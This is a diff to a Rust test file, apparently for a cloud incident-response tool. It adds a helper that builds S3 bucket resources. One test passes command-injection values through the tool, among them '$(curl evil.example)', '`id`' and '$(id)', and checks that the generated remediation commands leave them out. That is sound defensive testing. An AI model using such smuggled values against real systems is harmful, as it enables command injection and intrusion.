@@ -39,6 +39,11 @@ fn finding(kind: PrincipalKind, name: &str, session: Option<&str>) -> Finding {
     }
 }
 
+fn bucket(name: &str) -> Resource {
+    let arn = format!("arn:aws:s3:::{name}");
+    serde_json::from_value(serde_json::json!({ "type": "bucket", "name": name, "arn": arn })).unwrap()
+}
+
 fn told(finding: &Finding, arn: Option<&str>) -> Vec<(Advised, Option<String>)> {
     let case = CaseId::parse("c0ffee0000000001").unwrap();
     steps(&case, finding, arn).into_iter().map(|step| (step.what, step.command)).collect()
@@ -56,8 +61,7 @@ fn each_kind_of_principal_gets_its_steps_with_this_cases_values() {
     let mut anonymous = finding(PrincipalKind::Anonymous, "ANONYMOUS_PRINCIPAL", None);
     anonymous.principal.account = None;
     for finding in [&mut foreign, &mut anonymous] {
-        let (name, arn) = ("photos.example".to_owned(), "arn:aws:s3:::photos.example".to_owned());
-        finding.resource = Some(Resource::Bucket { name, arn });
+        finding.resource = Some(bucket("photos.example"));
     }
     let mut instance = finding(PrincipalKind::None, "", None);
     let (id, arn) = ("i-0123456789abcdef0".to_owned(), "arn:aws:ec2:x".to_owned());
@@ -105,7 +109,7 @@ fn a_name_that_a_shell_would_read_is_left_out() {
         [PrincipalKind::IamUser, PrincipalKind::SsoUser, PrincipalKind::FederatedUser, PrincipalKind::Root]
     {
         let mut evil = finding(kind, name, Some("$(curl evil.example)"));
-        evil.resource = Some(Resource::Bucket { name: "`id`".to_owned(), arn: name.to_owned() });
+        evil.resource = Some(bucket("`id`"));
         for (what, command) in told(&evil, Some("arn:aws:iam::1:role/$(id)")) {
             let command = command.unwrap_or_default();
             assert!(!command.contains("evil") && !command.contains("$("), "{what:?}: {command}");
